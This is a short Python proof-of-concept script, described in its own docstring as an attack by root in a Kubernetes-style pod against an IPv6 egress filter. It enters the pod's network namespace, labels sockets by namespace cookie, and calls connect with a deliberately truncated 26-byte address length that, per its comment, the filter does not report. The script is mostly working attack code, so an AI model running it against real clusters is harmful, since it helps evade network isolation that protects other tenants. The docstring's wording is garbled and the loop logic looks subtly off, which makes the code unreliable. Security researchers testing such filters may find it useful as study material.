"""An attack by root in a pod on what its host sockets of IPv6 reach: sockswitch/pods=egress. Prints a line of JSON.

Run in the node. Arguments: the public address, and destinations for a socket that has been there. A host socket is one of neither
namespace, by the cookie (SO_NETNS_COOKIE).
"""

import ctypes
import errno
import json
import os
import socket
import struct
import sys

PUBLIC, *OTHERS = sys.argv[1:]
SO_NETNS_COOKIE = 71
UNREPORTED = 26  # a length of addresses that the filter does not report
libc = ctypes.CDLL(None, use_errno=True)


def cookie(made):
    return struct.unpack("=Q", made.getsockopt(socket.SOL_SOCKET, SO_NETNS_COOKIE, 8))[0]


def tcp():
    made = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    made.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, struct.pack("ll", 0, 500_000))
    return made


def says(error):
    return "timed out" if error in (errno.EINPROGRESS, errno.EALREADY) else os.strerror(error)


def attempt(made, to, length=28):
    """connect(2) with a length of one's own."""
    address = struct.pack("=H", socket.AF_INET6) + struct.pack("!HI", to[1], 0) + socket.inet_pton(socket.AF_INET6, to[0])
    status = libc.connect(made.fileno(), address.ljust(28, b"\0"), length)
    return "connected" if status == 0 else says(ctypes.get_errno())


node = cookie(tcp())
with open("/run/netns/pod1") as namespace:
    if libc.setns(namespace.fileno(), 0x40000000) != 0:
        raise OSError(ctypes.get_errno(), "setns")
pod = cookie(tcp())
found = {}
for to in (PUBLIC, *OTHERS):
    made = tcp()
    outcome = attempt(made, (PUBLIC, 81))
    owner = {node: "node", pod: "pod"}.get(cookie(made), "host")
    found[to] = [outcome, owner, attempt(made, (to, 80), UNREPORTED)]
print(json.dumps(found))
